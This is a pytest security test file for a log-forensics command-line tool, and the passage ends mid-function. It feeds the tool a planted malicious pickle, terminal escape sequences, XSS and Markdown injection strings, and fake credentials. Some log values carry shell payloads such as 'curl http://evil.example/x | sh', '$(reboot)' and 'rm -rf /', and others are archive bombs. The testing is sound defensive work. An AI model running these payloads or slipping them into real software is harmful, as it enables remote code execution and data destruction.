"""Hostile inputs and hostile readers: every attack of the security issue as a test with
a time and a memory bound.

The command runs in a child process (``run_cli``) so that its peak RSS can be measured
and a hang cannot stall the suite.  Inputs are generated here, in the shapes the attacks
used: nothing in this file depends on our own lab scripts.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import re
import signal
import subprocess
import sys
import tarfile
import threading
import time
import zipfile
from pathlib import Path

import pytest

from forensics.inert import md_code, md_fence, md_text, plain, script_json, shell_value
from forensics.redact import Redactor
from tests.helpers import read_pty

ERROR_LINE = b"ERROR 03-14 10:00:02 [core.py:1] RuntimeError: CUDA error: an illegal memory access was encountered\n"

# peak RSS from VmHWM: ru_maxrss would carry the forking pytest process's size over exec
_RUNNER = (
    "import atexit, re, sys\n"
    "atexit.register(lambda: sys.stderr.write('\\nMAXRSS %s\\n' % "
    "re.search(r'VmHWM:\\s+(\\d+)', open('/proc/self/status').read()).group(1)))\n"
    "from forensics.cli import main\n"
    "main(sys.argv[1:], prog_name='forensics')\n"
)


class Run:
    def __init__(self, proc: subprocess.CompletedProcess, seconds: float) -> None:
        self.rc = proc.returncode
        self.out = proc.stdout.decode("utf-8", "replace")
        err = proc.stderr.decode("utf-8", "replace")
        found = re.findall(r"MAXRSS (\d+)", err)
        self.rss_mb = int(found[-1]) / 1024 if found else 0.0
        self.err = re.sub(r"\nMAXRSS \d+\n", "", err)
        self.seconds = seconds


def run_cli(*args, seconds: float = 60, rss_mb: float = 400, env: dict | None = None, cwd=None,
            stdin: bytes | None = None) -> Run:
    """``forensics ARGS`` in a child process; asserts it ends within ``seconds`` and its
    peak RSS stays under ``rss_mb``."""
    started = time.monotonic()
    proc = subprocess.run([sys.executable, "-c", _RUNNER, *map(str, args)], capture_output=True,
                          timeout=seconds, env={**os.environ, **(env or {})}, cwd=cwd, input=stdin)
    run = Run(proc, time.monotonic() - started)
    assert run.seconds < seconds
    assert run.rss_mb < rss_mb, f"peak RSS {run.rss_mb:.0f} MB"
    assert "Traceback (most recent call last)" not in run.err, run.err[-2000:]
    return run


def found_the_error(run: Run) -> bool:
    return "CUDA_ERROR_ILLEGAL_ADDRESS" in run.out


# --- no code from the filesystem ---------------------------------------------------------

class _Planted:
    """Unpickling this creates a marker file: proof that a cache was loaded."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (open, (self.marker, "w"))


def test_planted_parser_cache_is_never_loaded(tmp_path):
    marker = tmp_path / "PWNED"
    tmpdir, home, xdg = tmp_path / "tmp", tmp_path / "home", tmp_path / "xdg"
    for d in (tmpdir, home / ".cache" / "lark", xdg / "lark", xdg / "forensics", home / ".cache" / "forensics"):
        d.mkdir(parents=True)
    payload = pickle.dumps(_Planted(str(marker)))
    # every place a parser cache could be looked up: Lark's own names in $TMPDIR (any
    # grammar hash, any version), and per-user cache folders
    import lark
    names = [f".lark_cache_{h}_{lark.__version__}.tmp" for h in ("0" * 32, "f" * 32)]
    names += [".lark_cache.tmp", "lark_cache.pickle", "forensics.cache", "grammars.pickle"]
    for folder in (tmpdir, home / ".cache" / "lark", xdg / "lark", xdg / "forensics", home / ".cache" / "forensics"):
        for name in names:
            (folder / name).write_bytes(payload)
    log = tmp_path / "server.log"
    log.write_bytes(ERROR_LINE)
    run = run_cli("analyze", log, env={"TMPDIR": str(tmpdir), "HOME": str(home), "XDG_CACHE_HOME": str(xdg)})
    assert found_the_error(run)
    assert not marker.exists()


def test_grammars_are_built_without_a_disk_cache(monkeypatch):
    import lark
    from forensics import grammar
    seen = []
    original = lark.Lark.__init__

    def spy(self, *args, **kwargs):
        seen.append(kwargs.get("cache", False))
        return original(self, *args, **kwargs)

    monkeypatch.setattr(lark.Lark, "__init__", spy)
    grammar.load.cache_clear()
    grammar._TRANSFORMING.clear()
    from tests.helpers import parse_text
    parse_text(ERROR_LINE.decode() + "Traceback (most recent call last):\n  File \"a.py\", line 1, in f\n    g()\n"
               "RuntimeError: CUDA error: an illegal memory access was encountered\n")
    assert seen and not any(seen)


def _tree(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")}


def test_a_run_writes_nothing_but_its_output(tmp_path):
    work, tmpdir, home = tmp_path / "cwd", tmp_path / "tmp", tmp_path / "home"
    for d in (work, tmpdir, home):
        d.mkdir()
    bundle = tmp_path / "bundle"
    bundle.mkdir()
    (bundle / "server.log").write_bytes(ERROR_LINE * 3)
    with gzip.open(bundle / "rank1.log.gz", "wb") as g:
        g.write(ERROR_LINE)
    before = _tree(bundle)
    out = work / "report.md"
    run = run_cli("analyze", bundle, "--format", "markdown", "-o", out,
                  env={"TMPDIR": str(tmpdir), "HOME": str(home), "XDG_CACHE_HOME": str(home / ".cache")}, cwd=work)
    assert run.rc == 0 and out.exists()
    assert _tree(work) == {"report.md"}
    assert _tree(tmpdir) == set() and _tree(home) == set()
    assert _tree(bundle) == before


def test_a_killed_run_leaves_no_temporary_file(tmp_path):
    tmpdir = tmp_path / "tmp"
    tmpdir.mkdir()
    big = tmp_path / "big.log"
    line = b"INFO 03-14 10:00:01 [engine.py:10] Avg prompt throughput: 0.0 tokens/s, Running: 1 reqs\n"
    with open(big, "wb") as f:
        for _ in range(40):
            f.write(line * 20000)
        f.write(ERROR_LINE)
    proc = subprocess.Popen([sys.executable, "-m", "forensics", "analyze", str(big)], env={**os.environ, "TMPDIR": str(tmpdir)},
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(1.0)
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=10)
    assert _tree(tmpdir) == set()


# --- output is inert -----------------------------------------------------------------

ESC = "\x1b"
PAYLOAD = (f"{ESC}]52;c;Y3VybCBldmlsfHNo{ESC}\\ {ESC}]8;;http://evil.example/{ESC}\\click{ESC}]8;;{ESC}\\ "
           f"{ESC}]0;pwned{chr(7)} {ESC}[2J{ESC}[H {ESC}P1$qm{ESC}\\ \x9b31m \x9d0;t\x07 \x90dcs\x9c "
           "``` </code></pre> <!--<script>alert(1)</script> <img src=x onerror=alert(2)> "
           "![x](http://evil.example/p.png) [link](javascript:alert(3)) <https://evil.example> "
           "@vllm-project/team #1234 GH-99 owner/repo#5 **bold** __global__ \u202eevil\u202c | a | b |")


@pytest.fixture(scope="module")
def hostile_reports(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    bundle = folder / f"bundle{ESC}]0;t\x07"
    bundle.mkdir()
    lines = [
        "INFO 03-14 10:00:00 [api_server.py:100] vLLM API server version 0.9.1",
        "INFO 03-14 10:00:00 [api_server.py:101] non-default args: {'model': 'llama; curl http://evil.example/x | sh', "
        "'tensor_parallel_size': 4, 'max_num_batched_tokens': '$(reboot)'}",
        "Traceback (most recent call last):",
        f'  File "/opt/x/{ESC}]0;t\x07evil`x`.py", line 10, in execute_model',
        "    out = self.model(x)",
        f"RuntimeError: CUDA error: an illegal memory access was encountered {PAYLOAD}",
        "# Heading injection",
        "<script>alert(9)</script>",
    ]
    (bundle / f"console{ESC}[31m<b>.log").write_text("\n".join(lines) + "\n")
    (bundle / "\udcff\udcfename.log".encode("utf-8", "surrogateescape").decode("utf-8", "surrogateescape")).write_bytes(
        b"WARNING 03-14 10:00:03 [x.py:1] another file\n")
    out = {}
    for fmt in ("markdown", "html", "json"):
        target = folder / f"report.{fmt}"
        run = run_cli("analyze", bundle, "--format", fmt, "-o", target)
        assert run.rc == 0
        out[fmt] = target.read_text(encoding="utf-8")
    out["terminal"] = run_cli("analyze", bundle, env={"COLUMNS": "100"}).out
    out["verbose"] = run_cli("analyze", bundle, "-v").out
    return out


@pytest.mark.parametrize("fmt", ["terminal", "verbose", "markdown", "html", "json"])
def test_no_control_sequence_reaches_any_output(hostile_reports, fmt):
    text = hostile_reports[fmt]
    assert "CUDA_ERROR_ILLEGAL_ADDRESS" in text
    assert ESC not in text
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", text.replace("\r", ""))
    assert "\u202e" not in text and "\u202c" not in text


def _read_pty(pid: int, fd: int) -> str:
    return read_pty(pid, fd, seconds=60)


def test_terminal_through_a_pty_only_colours(tmp_path):
    import pty
    bundle = tmp_path / "b"
    bundle.mkdir()
    (bundle / "console.log").write_text("INFO 03-14 10:00:00 [x.py:1] start\n"
                                        f"RuntimeError: CUDA error: an illegal memory access was encountered {PAYLOAD}\n")
    pid, fd = pty.fork()
    if pid == 0:  # pragma: no cover - the child
        os.environ["COLUMNS"] = "100"
        os.execv(sys.executable, [sys.executable, "-m", "forensics", "analyze", "--no-pager", str(bundle)])
    text = _read_pty(pid, fd)
    assert "CUDA_ERROR_ILLEGAL_ADDRESS" in text
    # rich may colour (SGR "ESC [ ... m"); nothing else may reach the terminal
    others = re.findall(r"\x1b(?!\[[0-9;]*m)", text)
    assert others == []
    assert "\x9b" not in text and "\x9d" not in text and "\x07" not in text


def test_a_tall_report_on_a_terminal_goes_through_the_pager(tmp_path):
    """On a TTY a report taller than the screen is piped to $PAGER, as git does; the
    pager gets the same escaped text (here a pager that saves what it is given)."""
    import pty
    bundle = tmp_path / "b"
    bundle.mkdir()
    (bundle / "console.log").write_text("INFO 03-14 10:00:00 [x.py:1] start\n"
                                        f"RuntimeError: CUDA error: an illegal memory access was encountered {PAYLOAD}\n")
    paged = tmp_path / "paged.txt"
    pid, fd = pty.fork()
    if pid == 0:  # pragma: no cover - the child
        os.environ.update(COLUMNS="100", LINES="10", PAGER=f"sh -c 'cat > {paged}'")
        os.environ.pop("FORENSICS_PAGER", None)
        os.execv(sys.executable, [sys.executable, "-m", "forensics", "analyze", "--full", str(bundle)])
    shown = _read_pty(pid, fd)
    text = paged.read_text(encoding="utf-8")
    assert "CUDA_ERROR_ILLEGAL_ADDRESS" in text and "Incident checklist" in text
    assert "CUDA_ERROR_ILLEGAL_ADDRESS" not in shown
    assert re.findall(r"\x1b(?!\[[0-9;]*m)", text) == []


def test_suggested_commands_never_carry_a_hostile_value(hostile_reports):
    document = json.loads(hostile_reports["json"])
    commands = [a["command"] for a in document["next_actions"] if a["command"]]
    assert commands
    for command in commands:
        assert "curl" not in command and "evil" not in command and "reboot" not in command
        assert "<model>" in command or "vllm serve" not in command
    warnings = [w for a in document["next_actions"] for w in a["warnings"]]
    assert any("does not look like" in w for w in warnings)


def test_shell_values_are_quoted_or_replaced():
    assert shell_value("meta-llama/Llama-3-8B", "model", "<model>") == ("meta-llama/Llama-3-8B", None)
    for bad in ("llama; rm -rf /", "x | sh", "$(reboot)", "`id`", "a\nb", "m' && true '"):
        value, warning = shell_value(bad, "model", "<model>")
        assert value == "<model>" and warning
    assert shell_value("/data/models/my model", "path", "<path>")[0] == "<path>"


def test_markdown_has_no_live_construct(hostile_reports):
    text = hostile_reports["markdown"]
    outside = _outside_code(text)
    assert "<script" not in outside and "<img" not in outside and "<!--" not in outside and "</code>" not in outside
    assert "](http" not in outside and "](javascript" not in outside and "<https://evil" not in outside
    assert not re.search(r"(?<![\w\u200b\\])@[\w-]", outside), "a live mention"
    assert not re.search(r"(?<![\w\u200b\\&])#\d", outside), "a live issue reference"
    assert not re.search(r"^#+ Heading injection", text, re.M)
    assert "**bold**" not in outside


def _outside_code(markdown: str) -> str:
    """The Markdown with fenced blocks, code spans and the report's own ``<code>``
    elements (HTML-escaped text in a <details> summary: no tag inside) removed (what
    GitHub renders as markup)."""
    text = re.sub(r"^(`{3,})[^\n]*\n.*?^\1\s*$", "", markdown, flags=re.S | re.M)
    text = re.sub(r"<code>[^<]*</code>", "", text)
    return re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", text, flags=re.S)


def test_markdown_helpers_cannot_be_closed_early():
    body = "a ``` b\n````\n<script>"
    fenced = md_fence(body)
    fence = fenced.split("text", 1)[0]
    assert len(fence) > 4 and fenced.rstrip().endswith(fence)
    assert fenced.count(fence) == 2
    span = md_code("x `` y")
    assert span.startswith("```") and span.endswith("```")
    assert md_text("<b>@team #12 ![i](u)</b>") == "\\<b\\>@\u200bteam \\#\u200b12 \\!\\[i\\]\\(u\\)\\</b\\>"


def test_html_escapes_and_forbids_everything_but_itself(hostile_reports):
    page = hostile_reports["html"]
    csp = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)"', page)
    assert csp and "default-src 'none'" in csp.group(1) and "img-src data:" in csp.group(1)
    assert "connect-src" not in csp.group(1) or "connect-src 'none'" in csp.group(1)
    # the page's own scripts only: none from the log, no comment that could swallow the page
    assert page.count("<script") == page.count("</script>")
    scripts = re.findall(r"<script[^>]*>(.*?)</script>", page, re.S)
    for body in scripts:
        assert "<!--" not in body and "</script" not in body.lower() and "<script" not in body.lower()
    assert "<img src=x" not in page and "<!--<script>" not in page
    assert "\u2028" not in page and "\u2029" not in page


def test_script_json_is_safe_inside_a_script_element():
    text = script_json({"a": "</script><!--<script>\u2028\u2029&", "b\x1b": "\x9b31m"})
    assert "<" not in text and ">" not in text and "&" not in text
    assert "\u2028" not in text and "\u2029" not in text and "\x1b" not in text and "\x9b" not in text
    assert json.loads(text)["a"].startswith("</script>")


def test_plain_strips_every_escape_family():
    for seq in (f"{ESC}[31m", f"{ESC}]52;c;AAAA{chr(7)}", f"{ESC}]8;;http://x{ESC}\\", f"{ESC}P1$q{ESC}\\",
                f"{ESC}_apc{ESC}\\", "\x9b2J", "\x9d0;title\x07", "\x90x\x9c", "\x07", "\x08", "\u202e"):
        assert plain(f"a{seq}b") == "ab", repr(seq)
    assert plain("tab\there") == "tab here"


# --- redaction that holds ---------------------------------------------------------------

SECRETS = {
    "github-pat": "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
    "github-fine": "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUV",
    "slack": "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx",
    "google": "AIzaSyA1234567890abcdefghijklmnopqrstuv",
    "jwt": "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "azure": "AccountKey=abcdEFGHijklMNOPqrstUVWXyz0123456789+/abcdEFGHijklMNOPqrstUV==",
    "azure-sas": "https://acct.blob.core.windows.net/c?sv=2020-08-04&sig=AbCdEf0123456789%2BxYz%3D",
    "stripe": "sk_live_51HabcdefghijklmnopQRSTUV",
    "ipv6": "2001:db8:85a3::8a2e:370:7334",
    "internal-url": "http://gpu-node-17:8000/v1/models",
    "windows-user": "C:\\Users\\jdoe\\models",
    "basic-auth": "Authorization: Basic dXNlcjpwYXNzd29yZA==",
    "cookie": "Cookie: session=abcdef0123456789abcdef",
    "master-addr": "MASTER_ADDR=trainer-head-3",
    "ray-ip": "(RayWorkerWrapper pid=2345, ip=172.31.9.8)",
    "api-key-flag": "--api-key plainsecretvalue77",
    "email": "jdoe.private@corp-example.com",
    "gcp-key-id": '"private_key_id": "0123456789abcdef0123456789abcdef01234567"',
    "pem": "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\\n-----END PRIVATE KEY-----",
    "hf": "hf_abcdefghijklmnopqrstuvwxyzABCD",
    "openai": "sk-proj-abcdefghijklmnopqrstuvwx",
    "aws": "AKIAABCDEFGHIJKLMNOP",
    "home": "/home/alice/vllm",
    "nccl-host": "gpu-node-17:2405:2490 [1] NCCL INFO",
}
# what must not appear after redaction: a distinctive piece of each secret
PROBES = {
    "github-pat": "abcdefghijklmnopqrstuvwxyz0123456789", "github-fine": "11ABCDEFG0123456789",
    "slack": "1234567890123-AbCd", "google": "SyA1234567890", "jwt": "dozjgNryP4J3", "azure": "abcdEFGHijkl",
    "azure-sas": "AbCdEf0123456789", "stripe": "51Habcdefgh", "ipv6": "8a2e:370", "internal-url": "gpu-node-17",
    "windows-user": "jdoe", "basic-auth": "dXNlcjpw", "cookie": "abcdef0123456789abcdef",
    "master-addr": "trainer-head", "ray-ip": "172.31", "api-key-flag": "plainsecretvalue77",
    "email": "jdoe.private", "gcp-key-id": "0123456789abcdef0123", "pem": "MIIEvQIBADAN", "hf": "abcdefghijklmnopqrstuvwxyzABCD",
    "openai": "proj-abcdefghijkl", "aws": "AKIAABCDEFGHIJKLMNOP", "home": "alice", "nccl-host": "gpu-node-17",
}


@pytest.mark.parametrize("kind", sorted(SECRETS))
def test_each_secret_kind_is_redacted(kind):
    redacted = Redactor().text(f"RuntimeError: failed with {SECRETS[kind]} at step 3")
    assert PROBES[kind] not in redacted, redacted
    assert "RuntimeError: failed with" in redacted


def test_pem_block_over_several_lines_is_redacted():
    text = ("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n"
            "-----END RSA PRIVATE KEY-----")
    assert "MIIEow" not in Redactor().text(text)
    assert "MIIEow" not in Redactor().text("MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun")


def test_redaction_keeps_public_links_versions_and_code():
    r = Redactor()
    text = ("see https://github.com/vllm-project/vllm/issues/21731 and https://huggingface.co/meta-llama/x, "
            "https://docs.vllm.ai/en/latest; torch 2.7.1+cu128, flashinfer-python==0.2.5.1, version 1.2.3.4, "
            "v1.2.3.4, driver 570.124.06, at 10:00:01.123 in c10::cuda::CUDAStream and std::vector, ::1")
    assert r.text(text) == text


def test_prompts_in_every_dump_form_are_redacted():
    r = Redactor()
    forms = [
        "Received request cmpl-1: prompt: 'my secret medical question', params: SamplingParams(n=1)",
        "NewRequestData(req_id='a', prompt_token_ids=[101, 2023, 2003], prompt='my secret medical question')",
        'RequestOutput(request_id=1, prompt="my secret medical question", prompt_token_ids=[101, 2023], '
        "outputs=[CompletionOutput(index=0, text='the private answer', token_ids=[7, 8])]",
        '{"model": "m", "prompt": "my secret medical question", "max_tokens": 5}',
        "NewRequestData(req_id='b', prompt='my secret medical question that was cut before its quote",
    ]
    for form in forms:
        out = r.text(form)
        assert "medical" not in out and "private answer" not in out and "2023" not in out, out


def test_text_is_redacted_before_it_is_cut():
    from forensics.events import clip
    message = "x" * 195 + " owner.of.the.key@corp-example.com and more"
    cut = clip(message, 200)
    assert "corp-example" not in Redactor().text(cut)
    assert "owner.of.the.key" not in Redactor().text(cut)


@pytest.fixture(scope="module")
def secret_reports(tmp_path_factory):
    folder = tmp_path_factory.mktemp("secrets")
    lines = ["INFO 03-14 10:00:00 [api_server.py:100] vLLM API server version 0.9.1",
             "Traceback (most recent call last):",
             '  File "/home/alice/vllm/worker.py", line 10, in execute_model',
             "    out = self.model(x)",
             "RuntimeError: CUDA error: an illegal memory access was encountered " + " ".join(SECRETS.values()),
             "gpu-node-17:2405:2490 [1] NCCL INFO comm 0x1 rank 1 nranks 4 cudaDev 1 busId 1b000 - Abort COMPLETE"]
    (folder / "server.log").write_text("\n".join(lines) + "\n")
    out = {}
    for fmt, extra in (("markdown", ()), ("html", ()), ("json", ("--redact",))):
        target = folder / f"r.{fmt}"
        run_cli("analyze", folder / "server.log", "--format", fmt, *extra, "-o", target)
        out[fmt] = target.read_text()
    return out


@pytest.mark.parametrize("fmt", ["markdown", "html", "json"])
def test_planted_secrets_do_not_survive(secret_reports, fmt):
    text = secret_reports[fmt]
    assert "illegal memory access" in text
    survivors = [kind for kind, probe in PROBES.items() if probe in text]
    assert survivors == []


# --- never crash, never hang, memory flat ----------------------------------------------------

def _zip_with(tmp_path, mutate) -> Path:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("server.log", ERROR_LINE)
    data = bytearray(buf.getvalue())
    mutate(data)
    path = tmp_path / "bundle.zip"
    path.write_bytes(bytes(data))
    return path


def test_encrypted_zip_member(tmp_path):
    def encrypt(b):
        b[6] |= 1
        b[b.find(b"PK\x01\x02") + 8] |= 1
    run = run_cli("analyze", _zip_with(tmp_path, encrypt), seconds=30, rss_mb=200)
    assert run.rc == 2 and "encrypted" in run.err


def test_deflate64_zip_member(tmp_path):
    def deflate64(b):
        b[8] = 9
        b[b.find(b"PK\x01\x02") + 10] = 9
    run = run_cli("analyze", _zip_with(tmp_path, deflate64), seconds=30, rss_mb=200)
    assert run.rc == 2 and "Deflate64" in run.err


@pytest.mark.parametrize("compressed", [False, True])
def test_tar_member_claiming_2_to_the_62_bytes(tmp_path, compressed):
    path = tmp_path / ("huge.tar.gz" if compressed else "huge.tar")
    with tarfile.open(path, "w:gz" if compressed else "w", format=tarfile.PAX_FORMAT) as t:
        ok = tarfile.TarInfo("first.log")
        ok.size = len(ERROR_LINE)
        t.addfile(ok, io.BytesIO(ERROR_LINE))
        liar = tarfile.TarInfo("big.log")
        liar.size = 1
        liar.pax_headers = {"size": str(2 ** 62)}
        t.addfile(liar, io.BytesIO(b"x"))
    run = run_cli("analyze", path, seconds=30, rss_mb=200)
    assert found_the_error(run)


@pytest.mark.parametrize("fmt", [tarfile.PAX_FORMAT, tarfile.GNU_FORMAT])
def test_huge_long_name_headers(tmp_path, fmt):
    path = tmp_path / "names.tar"
    with tarfile.open(path, "w", format=fmt) as t:
        ok = tarfile.TarInfo("first.log")
        ok.size = len(ERROR_LINE)
        t.addfile(ok, io.BytesIO(ERROR_LINE))
        long = tarfile.TarInfo("n" * (48 << 20))
        long.size = 1
        t.addfile(long, io.BytesIO(b"x"))
    run = run_cli("analyze", path, seconds=30, rss_mb=200)
    assert found_the_error(run)
    assert "extended header" in run.out or "extended header" in run.err or run.rc == 0


@pytest.mark.parametrize("opener,suffix", [(gzip.open, ".gz"), (lzma.open, ".xz"), (bz2.open, ".bz2")])
def test_compression_bombs_are_capped(tmp_path, opener, suffix):
    path = tmp_path / f"server.log{suffix}"
    with opener(path, "wb") as out:
        out.write(ERROR_LINE)
        block = b"\n" * (1 << 20)
        for _ in range(400):         # 400 MiB of newlines from a few hundred KiB
            out.write(block)
    assert path.stat().st_size < (8 << 20)
    run = run_cli("analyze", path, seconds=60, rss_mb=300)
    assert found_the_error(run)


def test_fifo_with_kind_is_refused(tmp_path):
    fifo = tmp_path / "pipe.log"
    os.mkfifo(fifo)
    run = run_cli("analyze", fifo, "--kind", "vllm", seconds=20, rss_mb=200)
    assert run.rc == 2 and "not a regular file" in run.err


def test_link_to_dev_zero_with_kind_is_refused(tmp_path):
    link = tmp_path / "zero.log"
    link.symlink_to("/dev/zero")
    run = run_cli("analyze", link, "--kind", "vllm", seconds=20, rss_mb=200)
    assert run.rc == 2 and "not a regular file" in run.err


def test_folder_2100_deep(tmp_path):
    (tmp_path / "top.log").write_bytes(ERROR_LINE)
    os.chdir(tmp_path)
    try:
        for _ in range(2100):
            os.mkdir("d")
            os.chdir("d")
        Path("deep.log").write_bytes(ERROR_LINE)
    finally:
        os.chdir(Path(__file__).parent)
    try:
        run = run_cli("analyze", tmp_path, seconds=30, rss_mb=300)
    finally:
        # pytest's own clean-up recurses per level: remove the chain here
        subprocess.run(["rm", "-rf", str(tmp_path / "d")], check=False)
    assert found_the_error(run)
    assert "nested more than" in " ".join(run.out.split())


def test_invalid_utf8_file_names_in_every_format(tmp_path):
    bundle = tmp_path / "b"
    bundle.mkdir()
    with open(os.path.join(os.fsencode(bundle), b"rank\xff\xfe.log"), "wb") as f:
        f.write(ERROR_LINE)
    for fmt in ("terminal", "markdown", "html", "json"):
        target = tmp_path / f"r.{fmt}"
        run = run_cli("analyze", bundle, "--format", fmt, "-o", target, seconds=30, rss_mb=200)
        assert run.rc == 0
        text = target.read_text(encoding="utf-8")
        assert "rank" in text and "CUDA_ERROR_ILLEGAL_ADDRESS" in text


@pytest.mark.parametrize("where", ["missing-folder", "dev-full", "an-input"])
def test_unwritable_output_is_refused_before_analysis(tmp_path, where):
    log = tmp_path / "server.log"
    log.write_bytes(ERROR_LINE * 10)
    target = {"missing-folder": tmp_path / "no" / "such" / "r.md", "dev-full": Path("/dev/full"), "an-input": log}[where]
    if where == "dev-full" and not Path("/dev/full").exists():
        pytest.skip("no /dev/full here")
    run = run_cli("analyze", log, "--format", "markdown", "-o", target, seconds=20, rss_mb=200)
    assert run.rc == 2 and "-o" in run.err
    assert "forensics verdict" not in run.out
    assert log.read_bytes() == ERROR_LINE * 10


def test_log_still_being_written_is_read_to_its_size_at_start(tmp_path):
    log = tmp_path / "growing.log"
    log.write_bytes(ERROR_LINE + b"INFO 03-14 10:00:03 [x.py:1] tick\n" * 1000)
    stop = threading.Event()

    def grow():
        with open(log, "ab") as f:
            for _ in range(20_000):         # at most ~700 MB, at a server's pace
                if stop.is_set():
                    break
                f.write(b"INFO 03-14 10:00:03 [x.py:1] tick\n" * 1000)
                f.flush()
                time.sleep(0.001)

    writer = threading.Thread(target=grow, daemon=True)
    writer.start()
    try:
        run = run_cli("analyze", log, seconds=60, rss_mb=300)
    finally:
        stop.set()
        writer.join()
    assert found_the_error(run)


def test_a_500_mb_line_is_one_line(tmp_path):
    path = tmp_path / "long.log"
    with open(path, "wb") as f:
        f.write(b"INFO 03-14 10:00:00 [x.py:1] start\n")
        block = b"a" * (1 << 20)
        for _ in range(500):
            f.write(block)
        f.write(b"\n" + ERROR_LINE)
    run = run_cli("analyze", path, "--format", "json", seconds=90, rss_mb=300)
    document = json.loads(run.out)
    source = document["sources"][0]
    assert source["lines"] == 3
    assert any(e["source"].endswith("long.log:3") for e in document["timeline"])


def test_stdin_is_streamed(tmp_path):
    line = b"INFO 03-14 10:00:01 [engine.py:10] Avg prompt throughput: 0.0 tokens/s, Running: 1 reqs\n"
    data = line * 1_200_000 + ERROR_LINE    # ~110 MB through a pipe
    run = run_cli("analyze", "-", stdin=data, seconds=120, rss_mb=300)
    assert found_the_error(run)


def _timed(path: Path, seconds: float) -> float:
    return run_cli("analyze", path, "-q", seconds=seconds, rss_mb=400).seconds


def _linear(tmp_path, make, small: int, factor: int = 4, slack: float = 2.5) -> None:
    """The run on ``factor`` times the input takes at most ``slack * factor`` times as
    long (start-up excluded): linear, not quadratic."""
    a, b = tmp_path / "small.log", tmp_path / "large.log"
    make(a, small)
    make(b, small * factor)
    baseline = run_cli("analyze", tmp_path / "none", seconds=30).seconds   # start-up, exit 2
    t_small, t_large = _timed(a, 120) - baseline, _timed(b, 300) - baseline
    assert t_large <= max(slack * factor * max(t_small, 0.05), 1.0), (t_small, t_large)


def _tracebacks(path: Path, n: int) -> None:
    one = ('Traceback (most recent call last):\n  File "/a/b.py", line 3, in f\n    x.item()\n'
           "RuntimeError: CUDA error: an illegal memory access was encountered\n")
    path.write_text(one * n)


def _error_storm(path: Path, n: int) -> None:
    path.write_bytes(ERROR_LINE * n)


def _xids(path: Path, n: int) -> None:
    line = "[ 1234.{i:06d}] NVRM: Xid (PCI:0000:1b:00): 31, pid=4242, name=python3, Ch 00000008, intr 00000000. MMU Fault: ENGINE GRAPHICS GPCCLIENT_T1_0 faulted @ 0x7f12_34560000. Fault is of type FAULT_PDE ACCESS_TYPE_VIRT_WRITE\n"
    path.write_text("".join(line.format(i=i) for i in range(n)))


def _ranks(path: Path, n: int) -> None:
    path.write_text("".join(
        f"[rank{r}]:[E314 10:00:{r % 60:02d}.000000000 ProcessGroupNCCL.cpp:1595] [PG ID 0 PG GUID 0(default_pg) "
        f"Rank {r}] Process group watchdog thread terminated with exception: CUDA error: an illegal memory "
        "access was encountered\n" for r in range(n)))


@pytest.mark.parametrize("make,small", [(_tracebacks, 5_000), (_error_storm, 40_000), (_xids, 2_500), (_ranks, 2_500)],
                         ids=["tracebacks", "error-storm", "xid-lines", "ranks"])
def test_dense_inputs_take_linear_time(tmp_path, make, small):
    _linear(tmp_path, make, small)


def test_20000_ranks_and_10000_xids_finish(tmp_path):
    _ranks(tmp_path / "ranks.log", 20_000)
    _xids(tmp_path / "dmesg.txt", 10_000)
    run = run_cli("analyze", tmp_path, "-q", seconds=120, rss_mb=500)
    assert run.rc == 0 and "CUDA_ERROR_ILLEGAL_ADDRESS" in run.out


def test_a_traceback_of_a_million_lines(tmp_path):
    path = tmp_path / "tb.log"
    with open(path, "w") as f:
        f.write("Traceback (most recent call last):\n")
        frame = '  File "/a/b.py", line 3, in f\n    return f(x)\n'
        f.write(frame * 500_000)
        f.write("RuntimeError: CUDA error: an illegal memory access was encountered\n")
    run = run_cli("analyze", path, "-q", seconds=120, rss_mb=500)
    assert run.rc == 0


def test_empty_files_do_not_push_real_logs_out(tmp_path):
    for i in range(12_000):                      # more than the 10,000-file cap
        (tmp_path / f"e{i:05d}.log").touch()
    (tmp_path / "zz_server.log").write_bytes(ERROR_LINE)
    run = run_cli("analyze", tmp_path, "-q", seconds=120, rss_mb=300)
    assert found_the_error(run)


# --- wrong answers from bad input --------------------------------------------------------------

def test_frame_line_cut_mid_token_keeps_the_file(tmp_path):
    path = tmp_path / "cut.log"
    path.write_text('Traceback (most recent call last):\n  File "/a/b.py", line 3, in f\n    x.item()\n'
                    '  File "/a/b\nRuntimeError: CUDA error: an illegal memory access was encountered\n')
    run = run_cli("analyze", path, "--format", "json", seconds=30)
    document = json.loads(run.out)
    assert document["verdict"]["error"]["code"] == 700
    assert document["sources"][0]["lines"] == 5


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_utf16_and_utf32_logs_are_decoded(tmp_path, encoding):
    path = tmp_path / "win.log"
    path.write_bytes(("INFO 03-14 10:00:00 [x.py:1] start\n" + ERROR_LINE.decode()).encode(encoding))
    assert found_the_error(run_cli("analyze", path, seconds=30))


def test_recursion_error_with_repeated_lines_parses(tmp_path):
    path = tmp_path / "rec.log"
